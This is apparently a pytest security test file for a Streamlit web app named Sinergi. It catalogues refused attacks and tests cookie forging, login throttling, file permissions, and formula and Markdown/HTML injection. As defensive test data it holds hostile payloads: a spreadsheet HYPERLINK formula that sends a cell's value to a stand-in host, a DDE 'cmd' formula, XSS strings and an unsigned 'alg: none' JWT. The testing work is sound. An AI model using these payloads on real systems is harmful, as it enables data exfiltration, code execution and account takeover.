"""The security suite: every attack tried against Sinergi, and the tests that keep each one refused.

``ATTACKS`` below is the list a reviewer reads: each attack, in words, with the tests (in this file or
in the layer's own test file) that fail if it works again; a test here checks that each named test
exists. The tests in this file itself are the ones that belong to no single layer: defaults, the
sign-in throttle seen from a browser, downloads from every table, typed text on every page.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import stat
import time
from collections import Counter
from collections.abc import Mapping
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import openpyxl
import pytest
from playwright.sync_api import Browser, Page, expect
from sqlalchemy import func, text
from sqlmodel import col, select
from streamlit.testing.v1 import AppTest

import models as m
from sinergi import ui
from sinergi.core import spreadsheet
from sinergi.core.db import engine_for, make_engine, read_session, write_session
from sinergi.core.secrets import cookie_key
from sinergi.core.settings import LOGIN_POLICY
from sinergi.ui.present import REFRESH_SECONDS
from sinergi.writes import evidence, sharing
from tests.apptest import open_page
from tests.browser import served_app
from tests.conftest import DemoAccounts
from tests.factories import PASSWORD
from tests.test_browser import cookie_for, token

ATTACKS: dict[str, list[str]] = {
    # Broke before, and must stay refused.
    "a share link revoked or expired while its page is open keeps serving it, unlogged": [
        "test_sharing.py::test_a_link_revoked_while_its_page_is_open_stops_at_the_next_run_and_every_run_is_logged",
        "test_sharing.py::test_expired_revoked_and_unknown_links_are_refused_alike",
    ],
    "a table's own CSV download turns typed text into a live spreadsheet formula": [
        "test_security.py::test_every_table_download_keeps_text_that_looks_like_a_formula_as_text",
        "test_spreadsheet.py::test_xlsx_keeps_types_and_neutralises_formulas",
        "test_spreadsheet.py::test_csv_neutralises_formulas_and_keeps_accents",
        "test_transfer.py::test_exported_formula_text_reads_back_neutralised_and_imports_as_typed",
    ],
    "a phone reloads to check in again and reset its limits; one address floods a meeting": [
        "test_live_browser.py::test_a_phone_that_reloads_stays_checked_in_and_is_counted_once",
        "test_live.py::test_one_address_cannot_grow_the_head_count_past_its_limit",
        "test_live.py::test_one_address_is_slowed_down_whatever_devices_it_sends_from",
        "test_live.py::test_guessing_codes_from_one_address_is_refused_before_looking",
        "test_live.py::test_a_device_that_sends_too_fast_is_slowed_down",
    ],
    "guessing passwords with parallel submits, reloads, new browsers and many usernames": [
        "test_security.py::test_wrong_passwords_keep_counting_across_a_reload_and_a_new_browser",
        "test_accounts.py::test_guesses_sent_together_are_counted_before_any_password_is_checked",
        "test_accounts.py::test_one_address_trying_many_names_is_refused_after_the_limit",
        "test_accounts.py::test_an_address_is_slowed_down_then_refused_even_the_right_password",
    ],
    "locking any account out with five wrong passwords": [
        "test_accounts.py::test_guessing_from_one_address_does_not_lock_the_owner_out",
        "test_accounts.py::test_many_addresses_slow_a_name_down_without_locking_its_owner_out",
    ],
    "guessing the current password on the change-password form, unaudited": [
        "test_accounts.py::test_the_current_password_is_throttled_and_audited_when_changing_it",
    ],
    "Markdown or HTML in stored text: a split link, a phishing link, a script": [
        "test_security.py::test_typed_markdown_and_html_show_as_text_on_every_page_in_chromium",
        "test_security.py::test_every_markdown_element_shows_stored_text_as_typed",
        "test_security.py::test_the_admin_pages_show_names_and_labels_as_typed",
        "test_security.py::test_the_inbox_shows_names_and_typed_text_as_typed",
        "test_security.py::test_a_program_in_the_compliance_record_links_to_the_apps_own_page_by_its_id",
        "test_security.py::test_text_made_safe_for_markdown_reads_back_as_typed",
        "test_live_browser.py::test_ten_phones_send_a_hundred_inputs_that_reach_the_wall",
    ],
    "defaults: a world-readable database, every interface, tracebacks, passwords kept as usernames": [
        "test_security.py::test_the_database_file_and_its_directory_are_readable_by_their_owner_only",
        "test_security.py::test_an_existing_database_file_open_to_others_is_closed_on_start",
        "test_security.py::test_the_server_listens_on_this_machine_only_unless_told_otherwise",
        "test_pages.py::test_an_unexpected_error_shows_a_sentence_in_the_reader_language_and_the_log_has_the_details",
        "test_accounts.py::test_a_name_nobody_has_is_kept_only_as_a_hash",
    ],
    "a workbook that expands to tens of megabytes costs seconds of CPU before it is refused": [
        "test_transfer_safety.py::test_a_workbook_that_expands_beyond_the_limit_is_refused_before_any_xml_is_read",
        "test_transfer_safety.py::test_the_expansion_limits_are_settings",
        "test_transfer_safety.py::test_a_sheet_without_its_required_columns_is_not_read_past_its_header",
    ],
    # Held when tried, and kept so.
    "reading another company's or regency's data: URLs, filters, the shared cache": [
        "test_access.py::test_company_users_read_only_their_company",
        "test_access.py::test_agency_users_read_their_regency",
        "test_access.py::test_another_companys_program_is_refused_and_logged",
        "test_access.py::test_changing_the_url_to_another_companys_program_is_refused",
        "test_access.py::test_two_users_of_one_cached_reader_see_only_their_rows",
        "test_access.py::test_the_shared_cache_key_tells_every_reader_and_filter_apart",
        "test_transfer.py::test_company_export_holds_only_its_own_company",
        "test_reporting.py::test_a_company_never_sees_another_company",
    ],
    "writing another company's data: forms, grid, import, verification, admin": [
        "test_access.py::test_only_the_company_writes_its_results",
        "test_access.py::test_results_are_verified_by_the_regencys_agency",
        "test_verify_queue.py::test_who_may_not_verify_is_refused_and_the_refusal_audited",
        "test_verify_queue.py::test_the_queue_holds_only_what_the_viewer_verifies",
        "test_access.py::test_another_companys_compliance_record_is_refused",
        "test_transfer.py::test_company_user_imports_only_its_own_company",
        "test_transfer.py::test_an_evaluation_naming_another_companys_program_or_meeting_is_an_error",
        "test_transfer.py::test_agency_and_viewer_accounts_cannot_import",
        "test_write_path.py::test_an_import_refuses_a_village_outside_the_company_regencies_as_the_form_does",
        "test_admin.py::test_every_admin_command_and_query_is_refused_to_everyone_else",
    ],
    "reading or marking read another user's notices (a colleague's, another company's, as agency or admin)": [
        "test_notices.py::test_nobody_reads_or_marks_anothers_notices",
    ],
    "forged, unsigned (alg none), weakly keyed and replayed sign-in cookies": [
        "test_browser.py::test_forged_cookie_is_refused_and_a_signed_one_accepted",
        "test_security.py::test_an_unsigned_cookie_is_refused",
        "test_browser.py::test_cookie_replayed_after_logout_is_refused",
        "test_accounts.py::test_weak_cookie_keys_are_refused",
    ],
    "signed-out visitors on any page": [
        "test_access.py::test_signed_out_visitors_get_the_login_form_on_every_page",
    ],
    "oversize uploads, zip bombs, XML entities, files that are not workbooks": [
        "test_transfer_safety.py::test_zip_bomb_is_refused_before_decompressing",
        "test_transfer_safety.py::test_billion_laughs_workbook_is_refused_before_parsing_within_bounded_memory",
        "test_transfer_safety.py::test_a_file_over_the_size_limit_is_refused",
        "test_transfer_safety.py::test_files_that_are_not_workbooks_are_refused",
    ],
    "a file named .pdf that is not a PDF (text, HTML, a zip), an empty or oversize evidence file": [
        "test_evidence.py::test_the_type_is_what_the_content_is_whatever_the_name_says",
        "test_evidence.py::test_an_empty_file_and_one_over_the_limit_are_refused_with_their_name",
    ],
    "adding, removing or opening evidence files of another company's or regency's records": [
        "test_evidence.py::test_who_may_not_edit_the_result_may_not_add_or_remove_its_files",
        "test_evidence.py::test_a_verified_result_takes_files_from_an_admin_only",
        "test_evidence.py::test_files_are_seen_only_where_their_result_is",
        "test_evidence.py::test_a_compliance_record_takes_files_from_its_company_and_shows_them_to_its_agency",
        "test_evidence_pages.py::test_the_program_page_lists_the_files_of_its_results_for_those_who_read_them",
    ],
}


def test_every_attack_in_the_list_has_tests_that_exist() -> None:
    tests_dir = Path(__file__).parent
    missing = []
    for attack, tests in ATTACKS.items():
        assert tests, attack
        for test in tests:
            file_name, name = test.split("::")
            if not re.search(rf"^def {name}\(", (tests_dir / file_name).read_text(), re.M):
                missing.append(test)
    assert missing == []


def test_an_unsigned_cookie_is_refused(
    browser: Browser, demo_sqlite_url: str, demo_accounts: DemoAccounts
) -> None:
    """A cookie that names the admin with the signature left off ("alg": "none") opens nothing."""
    header = {"alg": "none", "typ": "JWT"}
    payload = {"username": demo_accounts.admin.username, "exp_date": time.time() + 86_400}
    unsigned = ".".join(_b64(part) for part in (header, payload)) + "."
    with served_app(demo_sqlite_url) as base:
        context = browser.new_context()
        context.add_cookies(cookie_for(base, unsigned))
        page = context.new_page()
        page.goto(base)
        expect(page.get_by_label("Nama pengguna")).to_be_visible(timeout=60_000)
        expect(page.get_by_test_id("stMetric")).to_have_count(0)
        context.close()


def _b64(part: Mapping[str, object]) -> str:
    return base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=").decode()


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_the_database_file_and_its_directory_are_readable_by_their_owner_only(tmp_path: Path) -> None:
    path = tmp_path / "baru" / "sinergi.db"
    engine = make_engine(f"sqlite:///{path}")
    with engine.begin() as connection:
        connection.execute(text("CREATE TABLE catatan (isi TEXT)"))
        connection.execute(text("INSERT INTO catatan VALUES ('rahasia')"))
        wal = path.with_name("sinergi.db-wal")
        assert wal.exists()
        assert _mode(wal) == 0o600, "the write-ahead log has the database's permissions"
    engine.dispose()
    assert _mode(path) == 0o600
    assert _mode(path.parent) == 0o700


def test_an_existing_database_file_open_to_others_is_closed_on_start(tmp_path: Path) -> None:
    path = tmp_path / "sinergi.db"
    path.touch(mode=0o644)
    path.chmod(0o644)
    make_engine(f"sqlite:///{path}").dispose()
    assert _mode(path) == 0o600


def _listening(port: int) -> list[str]:
    """The local addresses (hex, as the kernel lists them) listening on ``port``, IPv4 and IPv6."""
    found = []
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            address, port_hex = local.rsplit(":", 1)
            if state == "0A" and int(port_hex, 16) == port:
                found.append(address)
    return found


def test_the_server_listens_on_this_machine_only_unless_told_otherwise(demo_sqlite_url: str) -> None:
    with served_app(demo_sqlite_url, address=None) as base:
        addresses = _listening(int(base.rsplit(":", 1)[1]))
    assert addresses == ["0100007F"], "127.0.0.1 only: no other interface, no IPv6 wildcard"


@pytest.mark.browser
def test_wrong_passwords_keep_counting_across_a_reload_and_a_new_browser(
    browser: Browser, demo_copy_url: str, demo_accounts: DemoAccounts
) -> None:
    """Five wrong guesses from one address, each at another name: a reload, or another browser on the
    same machine, is still refused, even with the right password for a real account; nothing counted
    lives in the browser's session."""
    # The demo copy holds what other tests did in the demo database; only what happens here counts.
    with read_session(engine_for(demo_copy_url)) as session:
        before = session.exec(select(func.max(m.AuditLog.id))).one() or 0
        failures_before = session.exec(select(func.count()).select_from(m.LoginFailure)).one()
    with served_app(demo_copy_url) as base:
        first = browser.new_context()
        page = first.new_page()
        page.goto(base)
        for n in range(LOGIN_POLICY.lock_after):
            _sign_in(page, f"tebakan-{n}", "salah-sekali-123")
            expect(page.get_by_text("Gagal masuk. Periksa nama pengguna")).to_be_visible(timeout=60_000)
            # A message left from the guess before is not enough: wait until this one is counted.
            _wait_for_failures(demo_copy_url, failures_before + n + 1)
            page.reload()
        second = browser.new_context()
        other = second.new_page()
        other.goto(base)
        _sign_in(other, demo_accounts.admin.username, PASSWORD)
        expect(other.get_by_text("Gagal masuk. Periksa nama pengguna")).to_be_visible(timeout=60_000)
        expect(other.get_by_label("Nama pengguna")).to_be_visible()
        first.close()
        second.close()
    with read_session(engine_for(demo_copy_url)) as session:
        actions = list(
            session.exec(
                select(m.AuditLog.action).where(m.AuditLog.entity == "app_user", col(m.AuditLog.id) > before)
            )
        )
    assert actions.count("login_failed") == LOGIN_POLICY.lock_after
    assert "login" not in actions and "login_locked" in actions


def _wait_for_failures(url: str, count: int) -> None:
    """Until ``count`` failed sign-ins are kept."""
    deadline = time.monotonic() + 60
    while True:
        with read_session(engine_for(url)) as session:
            if session.exec(select(func.count()).select_from(m.LoginFailure)).one() >= count:
                return
        assert time.monotonic() < deadline, f"the failed sign-in number {count} was never counted"
        time.sleep(0.2)


def _sign_in(page: Page, username: str, password: str) -> None:
    form = page.get_by_test_id("stForm").filter(has=page.get_by_label("Nama pengguna"))
    expect(form).to_be_visible(timeout=60_000)
    form.get_by_label("Nama pengguna").fill(username)
    form.get_by_label("Kata sandi").fill(password)
    form.get_by_role("button", name="Masuk").click()


HOSTILE = {
    "program": '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
    "meeting": "@SUM(1+1)",
    "feedback": "+cmd|' /C calc'!A0",
    "user": "-2+3",
}


def _formula_cells_in(name: str, data: bytes) -> list[str]:
    """The cells of a downloaded table that a spreadsheet would run as a formula."""
    if name.endswith(".xlsx"):
        workbook = openpyxl.load_workbook(io.BytesIO(data))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        return [str(cell.value) for cell in cells if cell.data_type == "f"]
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig")))
    return [cell for row in rows for cell in row if _runs(cell)]


def _runs(cell: str) -> bool:
    if not cell.startswith(spreadsheet.FORMULA_STARTS):
        return False
    try:
        float(cell)  # a negative number is a number
    except ValueError:
        return True
    return False


@pytest.mark.browser
def test_every_table_download_keeps_text_that_looks_like_a_formula_as_text(
    browser: Browser, demo_copy_url: str, demo_accounts: DemoAccounts, tmp_path: Path
) -> None:
    engine = engine_for(demo_copy_url)
    with write_session(engine) as session:
        program = session.exec(select(m.Program).order_by(col(m.Program.id))).first()
        meeting = session.exec(select(m.Meeting).order_by(col(m.Meeting.id))).first()
        item = session.exec(select(m.FeedbackItem).order_by(col(m.FeedbackItem.id))).first()
        admin = session.exec(select(m.User).where(m.User.username == demo_accounts.admin.username)).one()
        assert program and meeting and item
        program.name, meeting.title, item.text = HOSTILE["program"], HOSTILE["meeting"], HOSTILE["feedback"]
        admin.display_name = HOSTILE["user"]
    downloaded: dict[str, bytes] = {}
    with served_app(demo_copy_url) as base:
        page = browser.new_page(viewport={"width": 1366, "height": 900}, accept_downloads=True)
        page.goto(f"{base}/programs")
        _sign_in(page, demo_accounts.admin.username, PASSWORD)
        expect(page.get_by_test_id("stDataFrame").first).to_be_visible(timeout=60_000)
        page.get_by_test_id("stDataFrame").first.hover()
        expect(page.get_by_test_id("stElementToolbar").first).to_be_attached(timeout=10_000)
        expect(page.get_by_role("button", name="Download as CSV")).to_have_count(0)
        for path in ("/programs", "/engagement", "/compliance", "/reporting", "/admin"):
            page.goto(f"{base}{path}")
            # Every page listed opens on a table with its downloads.
            expect(page.get_by_test_id("stDownloadButton").first).to_be_visible(timeout=60_000)
            _rendered(page)
            tabs = page.get_by_role("tab")
            for index in range(max(tabs.count(), 1)):
                if tabs.count():
                    tabs.nth(index).click()
                    time.sleep(1)  # the click starts a run of the page that draws the tab
                    _rendered(page)
                for file_name, data in _download_every_table(page, tmp_path):
                    downloaded[f"{path} {file_name}"] = data
    assert Counter(name.rsplit(".", 1)[1] for name in downloaded) == Counter(
        {"csv": len(downloaded) // 2, "xlsx": len(downloaded) // 2}
    ), "every table offers both files"
    assert len(downloaded) >= 16, sorted(downloaded)
    running = {name: cells for name, data in downloaded.items() if (cells := _formula_cells_in(name, data))}
    assert running == {}
    everything = b"".join(downloaded.values()).decode("utf-8", errors="ignore")
    assert "'=HYPERLINK" in everything and "'@SUM(1+1)" in everything, "the text is kept, as text"


def _rendered(page: Page) -> None:
    expect(page.locator('[data-testid="stApp"][data-test-script-state="notRunning"]')).to_be_attached(
        timeout=60_000
    )


def _download_every_table(page: Page, folder: Path) -> list[tuple[str, bytes]]:
    buttons = page.get_by_test_id("stDownloadButton").locator("button").filter(visible=True)
    files = []
    for index in range(buttons.count()):
        label = buttons.nth(index).inner_text()
        if "CSV" not in label and "Excel" not in label:
            continue  # a report or an export of its own, not a table's
        with page.expect_download(timeout=60_000) as started:
            buttons.nth(index).click()
        target = folder / started.value.suggested_filename
        started.value.save_as(target)
        files.append((started.value.suggested_filename, target.read_bytes()))
    return files


# Text typed into the app is shown as text: Markdown and HTML in it stay as written, an address in it is
# no link. Streamlit draws titles, captions, notices, expander and tab labels, metric labels and the
# cells of st.table as Markdown; dataframe cells and widget values as text.


def _typed(field: str) -> str:
    """What a hostile hand might type into ``field``: emphasis, a link to a look-alike sign-in page and
    HTML that would run."""
    return (
        f"{field} **fett** [masuk](https://contoh.invalid/login) "
        "<img src=x onerror=window.__xss=1><script>window.__xss=1</script>"
    )


def _unescaped(markdown: str) -> str:
    """The text a Markdown renderer shows for ``markdown`` made of escapes and plain characters."""
    return re.sub(r"\\(.)", r"\1", markdown.replace("  \n", "\n")).replace(ui.WORD_JOINER, "")


@pytest.mark.parametrize(
    "typed",
    [
        _typed("nama"),
        "*miring* _juga_ `kode` ~~coret~~ $x^2$ :smile: :material/home: :red[merah] &lt;b&gt; a|b",
        "# Judul\n- butir\n1. satu\n2) dua\n> kutipan\n===\n---",
        "lihat www.contoh.invalid, tulis ke dewi@contoh.invalid atau <https://contoh.invalid>",
        "![gambar](https://contoh.invalid/x.png) [a]\n\n[a]: https://contoh.invalid",
        "PT. Maju - Jaya, dewi.csr, 92.5, -2+3, 10:30",
    ],
)
def test_text_made_safe_for_markdown_reads_back_as_typed(typed: str) -> None:
    shown = ui.plain(typed)
    assert _unescaped(shown) == typed
    outside_escapes = re.sub(r"\\.", "", shown)
    assert not re.search(r"[\\`*_\[\]<>|~$&]", outside_escapes), "every markup character is escaped"
    assert not re.search(r"(?m)^(#|>|[-+] |\d+[.)] |=+ *$|-+ *$)", shown), "no line starts a block"
    assert not re.search(r"(?i)://|www\.|\w@|:\w", shown), "no address or icon code Streamlit would find"


def test_ordinary_names_stay_as_they_are_in_markdown() -> None:
    for name in ("PT. Maju - Jaya", "dewi.csr", "Kab. Kutai Kartanegara (2023)", "92.5", "-2+3"):
        assert ui.plain(name) == name


# The payload's markup where nothing escapes it: emphasis, the link, the HTML, the bare address.
_MARKUP = re.compile(r"(?<!\\)(\*\*fett|\[masuk|<img|<script)|https?://contoh")


def _plant_typed_text(url: str, accounts: DemoAccounts) -> dict[str, object]:
    """Every text field of the demo copy at ``url`` holding :func:`_typed` (and its row's id, for the
    names that must be unique); a share link labelled so; one item of feedback on the meeting's wall
    and one waiting for moderation. Gives back the ids the pages are opened with."""
    fields = {
        "program": ("name", "description"),
        "company": ("name", "short_name"),
        "organisation": ("name",),
        "indicator": ("name", "unit"),
        "result": ("narrative", "evidence"),
        "meeting": ("title", "venue"),
        "feedback_item": ("text", "response", "speaker"),
        "framework": ("name",),
        "framework_point": ("title", "text", "evidence_needed"),
        "compliance_record": ("evidence", "note"),
        "framework_participation": ("decline_reason",),
        "app_user": ("display_name",),
        "evaluation": ("title", "notes"),
        "follow_up_action": ("description", "owner"),
        "village": ("name",),
    }
    engine = engine_for(url)
    with engine.begin() as connection:
        for table, columns in fields.items():
            for column in columns:
                connection.execute(
                    text(f"UPDATE {table} SET {column} = :typed || ' #' || rowid"),
                    {"typed": _typed(f"{table}.{column}")},
                )
        meeting_id = connection.execute(
            text("SELECT meeting_id FROM meeting_program GROUP BY meeting_id ORDER BY count(*) DESC LIMIT 1")
        ).scalar_one()
        connection.execute(
            text(
                "UPDATE feedback_item SET moderation = 'pending'"
                " WHERE id = (SELECT min(id) FROM feedback_item WHERE meeting_id = :m)"
            ),
            {"m": meeting_id},
        )
        connection.execute(
            text("UPDATE feedback_item SET meeting_id = :m WHERE id = (SELECT max(id) FROM feedback_item)"),
            {"m": meeting_id},
        )
    with write_session(engine) as session:
        program = session.exec(select(m.Program).order_by(col(m.Program.id))).first()
        assert program is not None and program.id is not None
        link = sharing.create_link(
            session=session,
            viewer=accounts.admin,
            company_id=program.company_id,
            program_id=program.id,
            filters=None,
            label=_typed("share_link.label"),
            expires_on=date.today() + timedelta(days=7),
            now=datetime.now(UTC),
        )
        result = session.exec(
            select(m.Result.id).join(m.Indicator).where(m.Indicator.program_id == program.id)
        ).first()
        assert result is not None
        evidence.add_result_file(
            session=session,
            viewer=accounts.admin,
            result_id=result,
            filename=_typed("evidence_file.filename") + ".pdf",
            data=b"%PDF-1.4\n%%EOF\n",
        )
    return {"program": program.id, "meeting": meeting_id, "token": link}


def _markdown_texts(app: AppTest) -> list[str]:
    """Everything on the page that Streamlit draws as Markdown, as the page wrote it."""
    blocks = [
        app.markdown,
        app.caption,
        app.info,
        app.success,
        app.warning,
        app.error,
        app.title,
        app.subheader,
    ]
    texts = [str(element.value) for block in blocks for element in block]
    texts += [str(element.label) for element in [*app.expander, *app.tabs, *app.metric]]
    for table in app.table:
        texts += [str(cell) for cell in [*table.value.index, *table.value.to_numpy().ravel()]]
    return texts


@pytest.mark.parametrize(
    ("page", "params", "shown"),
    [
        ("pages/compliance.py", {}, ["framework_point.title", "compliance_record.evidence", "meeting.title"]),
        ("pages/account.py", {}, ["app_user.display_name"]),
        ("pages/present.py", {"meeting": "{meeting}"}, ["meeting.title", "meeting.venue", "program.name"]),
        ("pages/console.py", {"meeting": "{meeting}"}, ["meeting.title", "feedback_item.text"]),
        ("pages/data.py", {"tab": "Laporan semester"}, ["program.name"]),
        ("pages/program.py", {"id": "{program}"}, ["program.name", "company.name"]),
        ("pages/program.py", {"id": "{program}", "tab": "Bukti"}, ["evidence_file.filename"]),
        ("pages/shared.py", {"token": "{token}"}, ["share_link.label", "program.name"]),
    ],
)
def test_every_markdown_element_shows_stored_text_as_typed(
    monkeypatch: pytest.MonkeyPatch,
    demo_copy_url: str,
    demo_accounts: DemoAccounts,
    page: str,
    params: dict[str, str],
    shown: list[str],
) -> None:
    ids = _plant_typed_text(demo_copy_url, demo_accounts)
    app = open_page(
        monkeypatch,
        demo_copy_url,
        page,
        params={name: value.format(**ids) for name, value in params.items()},
        signed_in=page != "pages/shared.py",
    )
    texts = _markdown_texts(app)
    assert [text for text in texts if _MARKUP.search(text)] == []
    for field in shown:
        assert any(ui.plain(_typed(field)) in text for text in texts), f"{field} is shown, escaped"


def test_the_inbox_shows_names_and_typed_text_as_typed(
    monkeypatch: pytest.MonkeyPatch, demo_copy_url: str, demo_accounts: DemoAccounts
) -> None:
    _plant_typed_text(demo_copy_url, demo_accounts)
    with engine_for(demo_copy_url).begin() as connection:  # feedback left waiting for a response
        connection.execute(text("UPDATE feedback_item SET response = '', status = 'open'"))
    app = open_page(monkeypatch, demo_copy_url, "pages/inbox.py", viewer=demo_accounts.kpi)
    texts = _markdown_texts(app)
    assert [text for text in texts if _MARKUP.search(text)] == []
    for field in ("meeting.title", "program.name"):
        assert any(ui.plain(_typed(field)) in text for text in texts), f"{field} is shown, escaped"
    # A feedback item's text and an action's description are shown as the start of what was typed.
    for field in ("feedback_item.text", "follow_up_action.description"):
        assert any(ui.plain(_typed(field)[:60]) in text for text in texts), f"{field} is shown, escaped"


def test_the_admin_pages_show_names_and_labels_as_typed(
    monkeypatch: pytest.MonkeyPatch, demo_copy_url: str, demo_accounts: DemoAccounts
) -> None:
    _plant_typed_text(demo_copy_url, demo_accounts)
    app = open_page(monkeypatch, demo_copy_url, "pages/admin.py")
    texts = _markdown_texts(app)
    assert [text for text in texts if _MARKUP.search(text)] == []
    for field in ("share_link.label", "company.name", "framework.name"):
        assert any(ui.plain(_typed(field)) in text for text in texts), field


def test_a_program_in_the_compliance_record_links_to_the_apps_own_page_by_its_id(
    monkeypatch: pytest.MonkeyPatch, demo_copy_url: str, demo_accounts: DemoAccounts
) -> None:
    _plant_typed_text(demo_copy_url, demo_accounts)
    app = open_page(monkeypatch, demo_copy_url, "pages/compliance.py")
    links = [
        found for element in app.markdown for found in re.findall(r"(?<!\\)\]\(([^)]*)\)", str(element.value))
    ]
    assert links and all(re.fullmatch(r"program\?id=\d+", target) for target in links), links


def _shown(page: Page) -> str:
    """The page's visible text as a reader sees it: the invisible word joiners left out, spaces as one."""
    return " ".join(page.locator("body").inner_text().replace(ui.WORD_JOINER, "").split())


def _shows_as_typed(page: Page, fields: list[str], where: str) -> None:
    """Wait until the page shows what was typed into each of ``fields``, as typed (a page may run
    more than once as it opens)."""
    deadline = time.monotonic() + 60
    while missing := [field for field in fields if _typed(field) not in _shown(page)]:
        assert time.monotonic() < deadline, f"{missing} not shown as typed on {where}"
        time.sleep(0.5)


def _nothing_made_of_typed_text(page: Page, where: str) -> None:
    expect(page.locator("h1").first).to_be_visible(timeout=60_000)  # every page and slide has a title
    _rendered(page)
    assert page.locator('a[href*="contoh.invalid"]').count() == 0, f"a link made of typed text on {where}"
    assert page.locator('img[src="x"]').count() == 0, f"an image made of typed text on {where}"
    assert page.evaluate("() => typeof window.__xss") == "undefined", f"typed text ran on {where}"


@pytest.mark.browser
def test_typed_markdown_and_html_show_as_text_on_every_page_in_chromium(
    browser: Browser, demo_copy_url: str, demo_accounts: DemoAccounts
) -> None:
    """Emphasis, a link and HTML typed into every text field (names, narratives, evidence, feedback,
    meetings, points, labels): on every page no link to the address in them, nothing their HTML would
    make or run, and the text itself shown as typed where the page shows it outside a table."""
    ids = _plant_typed_text(demo_copy_url, demo_accounts)
    visits: list[tuple[str, list[str]]] = [
        ("/", []),
        ("/programs", []),
        (f"/program?id={ids['program']}", ["program.name", "company.name"]),
        ("/engagement", []),
        ("/compliance", ["meeting.title", "framework_point.title", "compliance_record.evidence"]),
        ("/reporting", []),
        ("/account", ["app_user.display_name"]),
        (f"/present?meeting={ids['meeting']}", ["meeting.title", "meeting.venue", "program.name"]),
    ]
    tabbed = {"/data": ["Isi data", "Impor", "Ekspor", "Laporan semester"], "/admin": []}
    with served_app(demo_copy_url) as base:
        context = browser.new_context(viewport={"width": 1366, "height": 900})
        context.add_cookies(cookie_for(base, token(demo_accounts.admin.username, cookie_key())))
        page = context.new_page()
        for path, fields in visits:
            page.goto(f"{base}{path}")
            _shows_as_typed(page, fields, path)
            _nothing_made_of_typed_text(page, path)
        for path in tabbed:
            page.goto(f"{base}{path}")
            _rendered(page)
            tabs = page.get_by_role("tab")
            for index in range(tabs.count()):
                tabs.nth(index).click()
                _nothing_made_of_typed_text(page, f"{path} tab {index + 1}")
        _open_tab(page, "Tautan berbagi")
        _shows_as_typed(page, ["share_link.label"], "the admin's list of share links")
        _open_tab(page, "Kerangka koordinasi")
        _shows_as_typed(page, ["framework.name"], "the admin's frameworks")

        page.goto(f"{base}/console?meeting={ids['meeting']}")
        _rendered(page)
        expect(page.get_by_role("button", name="Setujui semua")).to_be_visible(timeout=60_000)
        _nothing_made_of_typed_text(page, "the presenter console")
        _shows_as_typed(page, ["feedback_item.text"], "the item waiting for moderation")
        room = context.new_page()
        room.goto(f"{base}/present?meeting={ids['meeting']}")
        for _ in range(30):  # the slides, one by one, until the last (its button is then disabled)
            _rendered(page)
            _rendered(room)
            _nothing_made_of_typed_text(room, "a slide")
            following = page.get_by_role("button", name="Berikutnya")
            if not following.is_enabled():
                break
            shown = page.get_by_text(re.compile(r"^Slide \d+ dari")).inner_text()
            following.click()
            expect(page.get_by_text(re.compile(r"^Slide \d+ dari"))).not_to_have_text(shown, timeout=60_000)
            time.sleep(REFRESH_SECONDS + 1)  # the audience view follows at its next refresh
        _shows_as_typed(room, ["feedback_item.text"], "the wall")
        context.close()

        shared = browser.new_page(viewport={"width": 1366, "height": 900})
        shared.goto(f"{base}/shared?token={ids['token']}")
        _shows_as_typed(shared, ["share_link.label", "program.name"], "/shared")
        _nothing_made_of_typed_text(shared, "/shared")
        shared.close()


def _open_tab(page: Page, name: str) -> None:
    page.get_by_role("tab", name=name).click()
    _rendered(page)
